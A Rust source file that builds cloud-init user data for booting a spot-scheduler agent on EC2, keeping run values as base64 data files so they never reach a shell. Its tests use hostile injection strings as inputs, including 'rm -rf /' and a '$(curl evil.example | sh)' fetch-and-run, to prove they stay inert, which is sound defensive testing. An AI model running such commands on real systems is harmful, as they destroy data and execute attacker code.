//! EC2 user data that boots the agent for one run.
//!
//! The run's id, the api URL and the run's secret travel as data: a JSON boot file written by
//! cloud-init from base64 (`encoding: b64`), which the agent reads with `--boot-file`. No value is ever
//! placed into a shell command, so quotes, `$(...)` or newlines in a value arrive unchanged and run
//! nothing. The script cloud-init runs is a constant.
//!
//! How the agent reaches the instance: an AMI with `spot-agent` (and Docker) installed is the fast
//! path; otherwise the operator sets `cloud.ec2.agent_download_url` and the boot script downloads the
//! binary from there. When the agent exits, the script shuts the machine down, which terminates it
//! (`InstanceInitiatedShutdownBehavior=terminate`): a backstop should the reaper never get to it.

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;

use super::AgentBoot;

/// Where cloud-init writes the boot file.
pub const BOOT_FILE: &str = "/etc/spot-agent/boot.json";
/// Where cloud-init writes the agent's download URL (when the AMI lacks the agent).
const AGENT_URL_FILE: &str = "/etc/spot-agent/agent-url";
const BOOT_SCRIPT_PATH: &str = "/usr/local/lib/spot-agent/boot.sh";

/// The constant boot script: installs the agent if the AMI lacks it, runs it, then powers off.
const BOOT_SCRIPT: &str = r#"#!/bin/sh
set -u
if ! command -v spot-agent >/dev/null 2>&1; then
  url=$(cat /etc/spot-agent/agent-url 2>/dev/null || true)
  if [ -n "$url" ]; then
    curl -fsSL --retry 5 -o /usr/local/bin/spot-agent "$url" && chmod 0755 /usr/local/bin/spot-agent
  fi
fi
spot-agent --boot-file /etc/spot-agent/boot.json
shutdown -h now
"#;

/// Renders the cloud-config user data for `boot`. `agent_url` may be empty (the AMI has the agent).
pub fn render(boot: &AgentBoot, agent_url: &str) -> String {
    // Serialising a plain struct of strings cannot fail.
    let boot_json = serde_json::to_vec(boot).unwrap_or_default();
    let mut out = String::from("#cloud-config\n# spot-scheduler agent boot: values are data files, never shell.\nwrite_files:\n");
    let mut file = |path: &str, permissions: &str, content: &[u8]| {
        out.push_str(&format!(
            "  - path: {path}\n    permissions: \"{permissions}\"\n    encoding: b64\n    content: {}\n",
            BASE64.encode(content)
        ));
    };
    file(BOOT_FILE, "0600", &boot_json);
    file(AGENT_URL_FILE, "0644", agent_url.as_bytes());
    file(BOOT_SCRIPT_PATH, "0755", BOOT_SCRIPT.as_bytes());
    out.push_str(&format!("runcmd:\n  - [\"{BOOT_SCRIPT_PATH}\"]\n"));
    out
}

/// Reads the boot file back out of user data rendered by [`render`]: what cloud-init would write.
pub fn boot_from_user_data(user_data: &str) -> Option<AgentBoot> {
    let mut lines = user_data.lines();
    while let Some(line) = lines.next() {
        if line.trim() == format!("- path: {BOOT_FILE}") {
            for line in lines.by_ref() {
                if let Some(content) = line.trim().strip_prefix("content: ") {
                    let json = BASE64.decode(content).ok()?;
                    return serde_json::from_slice(&json).ok();
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_values_arrive_unchanged_and_never_reach_shell() {
        let boot = AgentBoot {
            run_id: "run'\"; rm -rf / #".into(),
            api_url: "http://api.example/$(curl evil.example | sh)`id`".into(),
            secret: "line one\nline two\r\n\"quoted\" 'single' $HOME \\ ${PATH}".into(),
            heartbeat_secs: 5,
        };
        let user_data = render(&boot, "https://agents.example/spot-agent?v=1&x=$(id)");
        assert_eq!(boot_from_user_data(&user_data), Some(boot.clone()));
        for fragment in ["$(curl", "rm -rf", "`id`", "line two", "$HOME", "v=1&x"] {
            assert!(
                !user_data.contains(fragment),
                "{fragment:?} leaked into user data:\n{user_data}"
            );
        }
        // The only shell is the constant script; every value sits in a base64 line.
        for line in user_data.lines() {
            assert!(!line.contains('\r'), "{line:?}");
        }
        assert!(user_data.starts_with("#cloud-config\n"));
    }

    #[test]
    fn the_boot_script_is_a_constant() {
        let a = render(
            &AgentBoot {
                run_id: "a".into(),
                api_url: "b".into(),
                secret: "c".into(),
                heartbeat_secs: 0,
            },
            "",
        );
        let b = render(
            &AgentBoot {
                run_id: "x".into(),
                api_url: "y".into(),
                secret: "z".into(),
                heartbeat_secs: 0,
            },
            "",
        );
        let script_line = |text: &str| {
            text.lines()
                .skip_while(|l| !l.contains(BOOT_SCRIPT_PATH))
                .nth(3)
                .map(str::to_string)
        };
        assert_eq!(script_line(&a), script_line(&b));
        assert_eq!(boot_from_user_data("#cloud-config\n"), None);
    }
}
